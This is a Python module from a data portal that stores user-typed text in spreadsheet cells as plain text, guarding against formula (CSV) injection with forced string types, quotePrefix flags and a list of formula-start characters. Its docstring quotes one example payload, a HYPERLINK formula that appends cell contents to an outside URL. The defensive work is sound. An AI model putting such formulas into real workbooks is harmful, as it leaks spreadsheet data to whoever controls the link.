"""The one way the portal puts a value into a spreadsheet cell (openpyxl), in every workbook it
writes: the park's data workbook (indicators.workbook) and the national summary
(summaries.export_workbook). The rule: a formula exists only where the code asked for one
(`Formula`); whatever a person typed is stored as text and stays text.

Why a rule: openpyxl guesses a cell's type from its value (`Cell._bind_value`): any string that
starts with "=" becomes a formula and one equal to an error code ("#N/A") an error value.
`WriteOnlyCell` is the same `Cell`, and write-only sheets bind plain values the same way, so the
national export guesses too. A project named `=HYPERLINK("http://…/?d="&A1,"查看")` would be a
live link in the national summary, one click from sending other parks' cells away.

How text is kept text, without changing it:

- After the value is set, the cell's data_type is forced to "s". openpyxl then writes an inline
  string (`<c t="inlineStr"><is><t>…</t></is></c>`), never an `<f>` element, in both modes:
  Excel, WPS and LibreOffice show it and compute with it as text; nothing is evaluated on opening.
- Text that starts as a formula may (=, +, -, @, tab, CR and LF: OWASP's list for spreadsheet
  injection, LF added because CR becomes LF below) also gets Excel's `quotePrefix` style flag.
  Excel then shows a ' in the formula bar and keeps the cell text when a reviewer edits it (F2,
  Enter), where a plain text cell would be read again as a formula.
- OWASP's own remedy, putting a ' (or a tab) before the value, is for CSV, whose cells have no
  type: it changes the text, so the export would no longer say what the park typed and a value
  read back (the data workbook comes back through its import) would differ. In a .xlsx the cell
  type and the quotePrefix flag do that job without touching a character: the text reads back,
  with openpyxl or in Excel, exactly as typed.

Only what a workbook cannot carry is changed: line ends become LF (an XML reader turns a CR into
LF anyway; Excel's line break in a cell is LF), the control characters XML 1.0 forbids become
U+FFFD (openpyxl would raise on them, and one park's stray character would fail the whole
national export), and text past Excel's 32,767 characters is cut (as openpyxl would).

Numbers, dates, booleans and None go in as they are: openpyxl types them by their Python type,
never as a formula.
"""

from __future__ import annotations

import datetime
import re
from dataclasses import dataclass
from decimal import Decimal
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl.cell import Cell

# openpyxl's own values (openpyxl.cell.cell), written out so that importing this module does not
# load openpyxl: it is loaded where a workbook is made (the functions below), not in every
# process that merely imports a service. tests/test_spreadsheets.py checks they still agree.
TYPE_STRING = "s"
TYPE_FORMULA = "f"
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")

# What spreadsheets read as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
MAX_TEXT = 32_767  # Excel's limit for a cell's text
# Typed by openpyxl from their Python type alone: safe to hand a write-only sheet as they are.
PLAIN_TYPES = frozenset(
    {int, float, Decimal, datetime.datetime, datetime.date, datetime.time, datetime.timedelta}
)
_LINE_ENDS = re.compile(r"\r\n?")


@dataclass(frozen=True)
class Formula:
    """A formula the portal writes itself, e.g. `Formula("=SUM(D5:D9)")`: the only way a
    formula gets into a cell."""

    text: str

    def __post_init__(self):
        if not self.text.startswith("=") or len(self.text) < 2:
            raise ValueError(f"A formula starts with '=': {self.text!r}")


def text(value: str) -> str:
    """`value` as a cell stores it: LF line ends, no character XML cannot carry, at most 32,767
    characters."""
    value = _LINE_ENDS.sub("\n", str(value))
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)[:MAX_TEXT]


def set_value(cell: Cell, value) -> Cell:
    """Put `value` into `cell`: text as text (never a formula or an error value), a `Formula` as
    a formula, anything else as openpyxl types it."""
    if isinstance(value, Formula):
        cell.value = value.text  # openpyxl makes a string starting with "=" a formula
        return cell
    if isinstance(value, str):
        value = text(value)
        cell.value = value
        cell.data_type = TYPE_STRING
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
        return cell
    cell.value = value
    if cell.data_type == TYPE_FORMULA:  # openpyxl's ArrayFormula and the like
        raise TypeError(f"A formula goes into a cell only as a Formula: {value!r}")
    return cell


def put(ws, row: int, column: int, value) -> Cell:
    """The cell at (row, column) of an ordinary worksheet, holding `value` (see set_value)."""
    return set_value(ws.cell(row=row, column=column), value)


def cell(ws, value) -> Cell:
    """A cell of a write-only worksheet holding `value` (see set_value), to style before the
    row is appended."""
    from openpyxl.cell import WriteOnlyCell

    return set_value(WriteOnlyCell(ws), value)


def row(ws, values) -> list:
    """A row for a write-only worksheet's append(): each value through set_value, except cells
    made by `cell` (kept with their style) and values openpyxl can only type as what they are
    (numbers, dates, None), passed on as they are so a row of figures costs no cell objects."""
    from openpyxl.cell import Cell

    return [
        value
        if value is None or isinstance(value, Cell) or type(value) in PLAIN_TYPES
        else cell(ws, value)
        for value in values
    ]
